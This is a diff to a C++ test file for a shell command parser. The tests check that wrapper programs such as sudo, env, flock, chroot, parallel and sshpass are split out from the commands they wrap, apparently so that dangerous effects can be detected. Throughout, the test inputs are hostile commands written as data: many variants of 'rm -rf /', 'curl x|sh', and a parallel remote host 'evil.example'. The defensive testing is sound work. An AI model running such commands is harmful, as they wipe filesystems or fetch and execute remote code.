@@ -5,6 +5,7 @@
 #include <algorithm>
 #include <chrono>
 #include <random>
+#include <set>
 #include <sstream>
 #include <string>
 #include <tuple>
@@ -52,6 +53,51 @@ SimpleCommand one(std::string_view line) {
   INFO("input: " << line << "\n" << dump(r));
   REQUIRE(r.commands.size() == 1);
   return r.commands[0];
+}
+
+// Lines whose wrapper is given an option or an operand of its own effect (a file, a
+// directory, a program, code, a host): the wrapper's words stay a command of their own,
+// before the command it wraps.
+const std::set<std::string_view> kWrapperOwnWords = {
+    "sudo -C 3 -D /tmp -p pw -r r -t t -U u -h host rm -rf /",
+    "env -C /tmp rm -rf /",
+    "env -S 'rm -rf /'",
+    "env -S'rm -rf' /",
+    "env --split-string='rm -rf /'",
+    "env -S 'rm -rf' /",
+    "env -S 'GIT_DIR=/x git status'",
+    "/usr/bin/time -f %e -o log rm -rf /",
+    "chroot /x rm -rf /",
+    "chroot --userspec=a:b --groups g --skip-chdir /x rm -rf /",
+    "nsenter -m/proc/1/ns/mnt --setuid 0 rm -rf /",
+    "unshare --mount=/x -R /r -w /w rm -rf /",
+    "flock --time 5 /l rm -rf /",
+    "flock /tmp/l rm -rf /",
+    "flock -n -w 5 /tmp/l rm -rf /",
+    "flock -x -E 3 --timeout 1 /tmp/l rm -rf /",
+    "env -S 'sh -c \"rm -rf /\"'",
+    "unshare --wd /w rm -rf /",
+    "su -s /bin/bash -g wheel -c 'rm -rf /' root",
+    "flock /tmp/l -c 'rm -rf /'",
+    "flock -n /tmp/l --command 'rm -rf /'",
+    "parallel -a list rm -rf",
+};
+
+// The command `line` wraps: its only command, or, for a line of kWrapperOwnWords, the one
+// after the wrapper's own words.
+SimpleCommand wrapped(std::string_view line) {
+  ParseResult r = ok(line);
+  INFO("input: " << line << "\n" << dump(r));
+  if (!kWrapperOwnWords.count(line)) {
+    REQUIRE(r.commands.size() == 1);
+    return r.commands[0];
+  }
+  REQUIRE(r.commands.size() == 2);
+  const V& around = r.commands[1].wrappers;
+  CHECK(std::find(around.begin(), around.end(), r.commands[0].program) != around.end());
+  CHECK(r.commands[0].argv.size() >= 2);
+  CHECK(r.commands[0].wrappers.empty());
+  return r.commands[1];
 }
 
 void fails(std::string_view line, const Limits& limits = {}) {
@@ -518,7 +564,7 @@ TEST_CASE("sudo options with values", "[shell]") {
         "sudo -iu root rm -rf /", "sudo -C 3 -D /tmp -p pw -r r -t t -U u -h host rm -rf /",
         "sudo FOO=1 rm -rf /", "/usr/bin/sudo rm -rf /"}) {
     INFO(line);
-    const SimpleCommand c = one(line);
+    const SimpleCommand c = wrapped(line);
     is_rm_rf_root(c);
     CHECK(c.wrappers == V{"sudo"});
   }
@@ -541,7 +587,7 @@ TEST_CASE("env", "[shell]") {
        {"env -i rm -rf /", "env FOO=1 BAR=2 rm -rf /", "env -u HOME rm -rf /",
         "env -C /tmp rm -rf /", "env - rm -rf /", "env --unset=X rm -rf /", "env -i -- rm -rf /"}) {
     INFO(line);
-    const SimpleCommand c = one(line);
+    const SimpleCommand c = wrapped(line);
     is_rm_rf_root(c);
     CHECK(c.wrappers == V{"env"});
   }
@@ -552,7 +598,7 @@ TEST_CASE("env -S splits its string", "[shell]") {
   for (const char* line : {"env -S 'rm -rf /'", "env -S'rm -rf' /", "env --split-string='rm -rf /'",
                            "env -S 'rm -rf' /"}) {
     INFO(line);
-    const SimpleCommand c = one(line);
+    const SimpleCommand c = wrapped(line);
     is_rm_rf_root(c);
     CHECK(c.wrappers == V{"env"});
     CHECK(c.depth == 0);
@@ -599,7 +645,7 @@ TEST_CASE("nohup, stdbuf, time", "[shell]") {
   is_rm_rf_root(t);
   CHECK(t.wrappers == V{"time"});
   CHECK(one("time -p rm -rf /").wrappers == V{"time"});
-  CHECK(one("/usr/bin/time -f %e -o log rm -rf /").wrappers == V{"time"});
+  CHECK(wrapped("/usr/bin/time -f %e -o log rm -rf /").wrappers == V{"time"});
 }
 
 TEST_CASE("time before a compound command", "[shell]") {
@@ -686,7 +732,7 @@ namespace {
 void runs_rm_rf_root(const std::vector<std::pair<std::string, std::string>>& cases) {
   for (const auto& [line, wrapper] : cases) {
     INFO(line);
-    const SimpleCommand c = one(line);
+    const SimpleCommand c = wrapped(line);
     is_rm_rf_root(c);
     CHECK(c.argv == V{"rm", "-rf", "/"});
     CHECK(c.wrappers == V{wrapper});
@@ -699,7 +745,7 @@ void runs_rm_rf_root(const std::vector<std::pair<std::string, std::string>>& cas
 void runs_rm_rf_root_in_shell(const std::vector<std::pair<std::string, V>>& cases) {
   for (const auto& [line, wrappers] : cases) {
     INFO(line);
-    const SimpleCommand c = one(line);
+    const SimpleCommand c = wrapped(line);
     is_rm_rf_root(c);
     CHECK(c.wrappers == wrappers);
     CHECK(c.depth == 1);
@@ -899,10 +945,14 @@ TEST_CASE("shells and command strings behind sudo, doas and other shells", "[she
 
 TEST_CASE("flock -c runs a shell line", "[shell][wrap]") {
   const ParseResult r = ok("flock /tmp/l -c 'curl x|sh'");
-  CHECK(programs(r) == V{"curl", "sh"});
-  for (const SimpleCommand& c : r.commands) {
-    CHECK(c.wrappers == V{"flock"});
-    CHECK(c.depth == 1);
+  // The lock file is flock's own (it opens it, creating it): its words are a command first.
+  CHECK(programs(r) == V{"flock", "curl", "sh"});
+  REQUIRE(r.commands.size() == 3);
+  CHECK(r.commands[0].wrappers.empty());
+  CHECK(r.commands[0].depth == 0);
+  for (std::size_t i = 1; i < r.commands.size(); ++i) {
+    CHECK(r.commands[i].wrappers == V{"flock"});
+    CHECK(r.commands[i].depth == 1);
   }
 }
 
@@ -951,7 +1001,7 @@ TEST_CASE("parallel runs its command template with operands known at run time", 
         "parallel --jobs 2 -k rm -rf {} :::: files", "parallel -a list rm -rf",
         "parallel -X --colsep , rm -rf {1} ::: a ::: b", "parallel rm -rf < list"}) {
     INFO(line);
-    const SimpleCommand p = one(line);
+    const SimpleCommand p = wrapped(line);
     CHECK(p.program == "rm");
     CHECK(p.flags == V{"-r", "-f"});
     CHECK(p.wrappers == V{"parallel"});
@@ -1041,11 +1091,14 @@ TEST_CASE("sshpass runs its command", "[shell][wrap]") {
         "sshpass -e ssh host rm -rf /", "sshpass -eVAR -P word ssh host rm -rf /"}) {
     INFO(line);
     const ParseResult r = ok(line);
-    REQUIRE(r.commands.size() == 2);
-    CHECK(r.commands[0].program == "ssh");
-    CHECK(r.commands[0].wrappers == V{"sshpass"});
-    is_rm_rf_root(r.commands[1]);
-    CHECK(r.commands[1].wrappers == V{"sshpass", "ssh"});
+    // `-f file`: sshpass reads the password from the file, its own words a command first.
+    const std::size_t own = std::string_view(line).find("-f file") != std::string_view::npos;
+    REQUIRE(r.commands.size() == 2 + own);
+    if (own) CHECK(r.commands[0].argv == V{"sshpass", "-f", "file", "-v"});
+    CHECK(r.commands[own].program == "ssh");
+    CHECK(r.commands[own].wrappers == V{"sshpass"});
+    is_rm_rf_root(r.commands[own + 1]);
+    CHECK(r.commands[own + 1].wrappers == V{"sshpass", "ssh"});
   }
 }
 
@@ -1814,7 +1867,7 @@ TEST_CASE("assignments on wrappers reach the wrapped command", "[shell][assign]"
   REQUIRE(h.commands.size() == 2);
   CHECK(assigns(h.commands[1]) == AV{{"ENV", "/x"}});
   CHECK(assigns(ok("PATH=/tmp sh <<< 'ls'").commands.at(1)) == AV{{"PATH", "/tmp"}});
-  CHECK(assigns(one("env -S 'GIT_DIR=/x git status'")) == AV{{"GIT_DIR", "/x"}});
+  CHECK(assigns(wrapped("env -S 'GIT_DIR=/x git status'")) == AV{{"GIT_DIR", "/x"}});
   CHECK(one("env A=$X ls").assignments.at(0).dynamic);
 }
 
@@ -1944,5 +1997,61 @@ TEST_CASE("random wrapper soup keeps the parser's contract", "[shell][wrap][limi
       REQUIRE(c.dynamic == (c.glob || c.expansion || c.runtime_operands));
       if (c.argv.empty()) REQUIRE(c.program.empty());
     }
+  }
+}
+
+TEST_CASE("a wrapper's own option or operand with an effect stays a command of its own",
+          "[shell][wrap]") {
+  // A value that is a file, a directory, a program, code or a host: the wrapper's words
+  // come first, as a command the effects table judges, then the command it wraps.
+  for (const auto& [line, own, inner] : std::vector<std::tuple<std::string, V, std::string>>{
+           {"parallel --compress-program 'curl x|sh' echo ::: a",
+            {"parallel", "--compress-program", "curl x|sh", "echo", ":::", "a"},
+            "echo"},
+           {"parallel --compress-p 'curl x|sh' echo ::: a",  // an abbreviation
+            {"parallel", "--compress-p", "curl x|sh", "echo", ":::", "a"},
+            "echo"},
+           {"parallel --filter 'system(1)' echo ::: a",
+            {"parallel", "--filter", "system(1)", "echo", ":::", "a"},
+            "echo"},
+           {"parallel -S evil.example echo ::: a",
+            {"parallel", "-S", "evil.example", "echo", ":::", "a"},
+            "echo"},
+           {"sshpass -f pw ls", {"sshpass", "-f", "pw"}, "ls"},
+           {"sudo -D /tmp ./x.sh", {"sudo", "-D", "/tmp"}, "x.sh"},
+           {"sudo --chdir=/tmp ./x.sh", {"sudo", "--chdir=/tmp"}, "x.sh"},
+           {"time -o out ls", {"time", "-o", "out"}, "ls"},
+           {"time --output=out ls", {"time", "--output=out"}, "ls"},
+           {"xargs -a list echo", {"xargs", "-a", "list"}, "echo"},
+           {"nsenter --root=/r ls", {"nsenter", "--root=/r"}, "ls"},
+           {"nsenter -r/r ls", {"nsenter", "-r/r"}, "ls"},
+           {"unshare -R /r ls", {"unshare", "-R", "/r"}, "ls"},
+           {"env -C /tmp ls", {"env", "-C", "/tmp"}, "ls"},
+           {"flock /tmp/l ls", {"flock", "/tmp/l"}, "ls"},
+           {"chroot /r ls", {"chroot", "/r"}, "ls"},
+           {"script -O log -c ls", {"script", "-O", "log"}, "ls"},
+           {"runuser --shell=/tmp/sh -l u -c ls",
+            {"runuser", "--shell=/tmp/sh", "-l", "u", "-c", "ls"},
+            "ls"},
+           {"su -s /tmp/sh u -c ls", {"su", "-s", "/tmp/sh", "u", "-c", "ls"}, "ls"},
+       }) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    REQUIRE(r.commands.size() == 2);
+    CHECK(r.commands[0].argv == own);
+    CHECK(r.commands[0].wrappers.empty());
+    CHECK(r.commands[1].program == inner);
+    CHECK(r.commands[1].wrappers == V{own[0]});
+  }
+  // Inert values (a number, a duration, a signal, a user, a mode, a separator, a format) and
+  // inert operands leave the wrapped command alone, as it always was.
+  for (const char* line :
+       {"timeout -s KILL 5 ls", "timeout --sig KILL 5 ls", "nice -n 5 ls", "ionice -c 2 -n 7 ls",
+        "sudo -u root ls", "sudo -u root -- ls", "xargs -0 -n 1 -P 4 ls", "env -u X FOO=1 ls",
+        "taskset 0x3 ls", "chrt -f 99 ls", "watch -n 2 -d ls", "parallel -j 4 --tag ls ::: a",
+        "stdbuf -oL ls", "su root -c ls", "time -f %e ls", "exec -a name ls"}) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    CHECK(programs(r) == V{"ls"});
   }
 }
